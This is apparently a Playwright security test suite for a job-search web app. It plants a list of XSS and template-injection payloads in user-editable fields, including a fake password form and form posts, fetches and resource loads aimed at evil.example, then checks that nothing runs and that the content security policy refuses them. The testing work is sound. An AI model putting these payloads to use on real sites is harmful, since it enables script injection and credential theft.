import type { APIRequestContext, Page } from '@playwright/test'
import { headersOf } from '../asking.ts'
import { expect, test } from '../fixtures.ts'

/** Unless treated as text, each sets `window.ran`, opens a dialog, or loads something. */
const hostile = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 2">',
  '"><svg onload=alert(3)>',
  '<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>',
  '<a href="javascript:window.ran = 5">Apply here</a>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>main { display: none }</style>',
  '</title></textarea></style><script>alert(9)</script>',
  '&lt;script&gt;alert(10)&lt;/script&gt;',
  "{{constructor.constructor('window.ran = 11')()}}${alert(11)}",
  '[read](javascript:alert(12)) javascript:alert(12)',
].join('\n')
const oneLine = hostile.replaceAll('\n', ' ')
const short = '<img src=x onerror="window.ran = 2">'

async function spoilListings(page: Page) {
  await page.route(/\/api\/(jobs|saved-jobs|employers|tags)\b/, async (route) => {
    const response = await route.fetch()
    const isJson = response.headers()['content-type']?.includes('json')
    if (!isJson) return route.fulfill({ response })
    await route.fulfill({ response, json: spoilt(await response.json()) })
  })
}
const spoiltFields = new Set([
  'title',
  'description',
  'name',
  'company',
  'employer_name',
  'salary',
  'tags',
  'preview',
])
function spoilt(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) return value.map((one) => spoilt(one, name))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, spoilt(one, key)]))
  return typeof value === 'string' && spoiltFields.has(name) ? `${value} ${oneLine}` : value
}

/** Fills her texts as if she had been tricked. @returns her saved job and letter */
async function pasteEverywhere(request: APIRequestContext, token: string) {
  const headers = headersOf(token)
  const jobs = await (await request.get('/api/jobs/', { headers })).json()
  const jobId: number = jobs.results[0].id
  const file = { name: `${short}.pdf`, mimeType: 'application/pdf', buffer: pdf }
  const letter = await request.post('/api/cover-letters/', {
    headers,
    data: { job_post_id: jobId, subject: short, content: hostile },
  })
  const said = await Promise.all([
    request.post('/api/saved-jobs/', { headers, data: { job_id: jobId } }),
    request.put('/api/jobseeker/profile/', {
      headers,
      data: {
        title: short,
        about: hostile,
        location: short,
        skills: [short, 'Bookkeeping'],
        projects: [{ title: short, description: hostile }],
      },
    }),
    request.post('/api/resumes/', { headers, multipart: { file } }),
    request.post('/api/job-applications/', {
      headers,
      data: { job_title: short, employer_name: short, notes: hostile },
    }),
    request.post('/api/saved-searches/', { headers, data: { name: short, criteria: { search: 'clerk' } } }),
    request.post('/api/ai-instructions/', { headers, data: { instructions: hostile } }),
  ])
  for (const answer of [letter, ...said]) expect([answer.url(), answer.ok()]).toEqual([answer.url(), true])
  const { id: letterId } = await letter.json()
  return { jobId, letterId }
}
const pdf = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
)

const foreign = () => ({
  ran: (window as { ran?: number }).ran ?? null,
  elements: document.querySelectorAll(
    'iframe, base, img[src="x"], [onerror], [onload], form[action*="evil"], a[href^="javascript:" i]',
  ).length,
})

test('markup that employers write and seekers paste is text wherever it is shown, and nothing of it runs', {
  tag: '@security',
}, async ({ page, request, signUpAs }) => {
  const dialogs: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  const { token } = await signUpAs('Mara')
  const { jobId, letterId } = await pasteEverywhere(request, token)
  await spoilListings(page)
  for (const address of [
    '/jobs',
    `/jobs/${jobId}`,
    '/saved-jobs',
    '/employers',
    '/applications',
    '/letters',
    `/letters/${letterId}`,
    '/saved-searches',
    '/profile',
    `/jobs?search=${encodeURIComponent(short)}`,
    `/login?next=${encodeURIComponent('javascript:window.ran = 20')}`,
  ]) {
    await page.goto(address)
    await expect(page.getByRole('main')).toBeVisible()
    if (!address.includes('?'))
      await expect.poll(() => writtenOut(page), { message: address }).toContain('<img src=x')
    expect([address, await page.evaluate(foreign)]).toEqual([address, { ran: null, elements: 0 }])
  }
  expect(dialogs).toEqual([])
})

/** Including fields. */
const writtenOut = (page: Page) =>
  page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLTextAreaElement>('input, textarea')]
    return [document.body.innerText, ...fields.map(({ value }) => value)].join('\n')
  })

test('what got into a page all the same may run nothing, load nothing and send nothing elsewhere', {
  tag: '@security',
}, async ({ browser, baseURL }) => {
  // Without the fixture, since policy reports are expected.
  const page = await browser.newPage({ ...(baseURL && { baseURL }) })
  await page.addInitScript(() => {
    const reports: string[] = []
    Object.assign(window, { reports })
    document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
  })
  for (const address of ['/', '/login']) {
    await page.goto(address)
    const outcome = await page.evaluate(async () => {
      // Only the first task of a test's code may evaluate texts.
      await new Promise((resolve) => setTimeout(resolve, 0))
      const refusals: string[] = []
      const tries: Record<string, () => unknown> = {
        eval: () => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.ran = 1']),
        Function: () => Reflect.construct(Reflect.get(window, 'Function'), ['window.ran = 2'])(),
        innerHTML: () => {
          document.body.innerHTML = '<img src=x onerror="window.ran = 3">'
        },
        'a script of text': () => {
          const script = document.createElement('script')
          script.append('window.ran = 4')
          document.body.append(script)
        },
        'a script from elsewhere': () => {
          document.createElement('script').src = 'https://evil.example/x.js'
        },
        'an object from elsewhere': () =>
          document.createElement('object').setAttribute('data', 'https://evil.example/'),
        'a policy of its own': () =>
          (
            window as never as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('mine', {}),
      }
      for (const [name, attempt] of Object.entries(tries))
        try {
          attempt()
        } catch {
          refusals.push(name)
        }
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        document.body.append(element)
        return element
      }
      add('img', { src: 'https://evil.example/x.png' })
      add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })
      add('iframe', { src: 'https://evil.example/' })
      const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
      form.submit()
      const called = await fetch('https://evil.example/').catch(() => 'refused')
      await new Promise((resolve) => setTimeout(resolve, 0))
      const { ran, reports } = window as never as { ran?: number; reports: string[] }
      return { ran, refusals, called, reports: [...new Set(reports)] }
    })
    expect(outcome.ran).toBeUndefined()
    expect(outcome.called).toBe('refused')
    expect(outcome.refusals).toEqual(
      expect.arrayContaining([
        'eval',
        'Function',
        'innerHTML',
        'a script from elsewhere',
        'an object from elsewhere',
        'a policy of its own',
      ]),
    )
    await expect
      .poll(() => page.evaluate(() => (window as never as { reports: string[] }).reports))
      .toEqual(
        expect.arrayContaining(['img-src', 'style-src-elem', 'frame-src', 'form-action', 'connect-src']),
      )
  }
  await page.close()
})
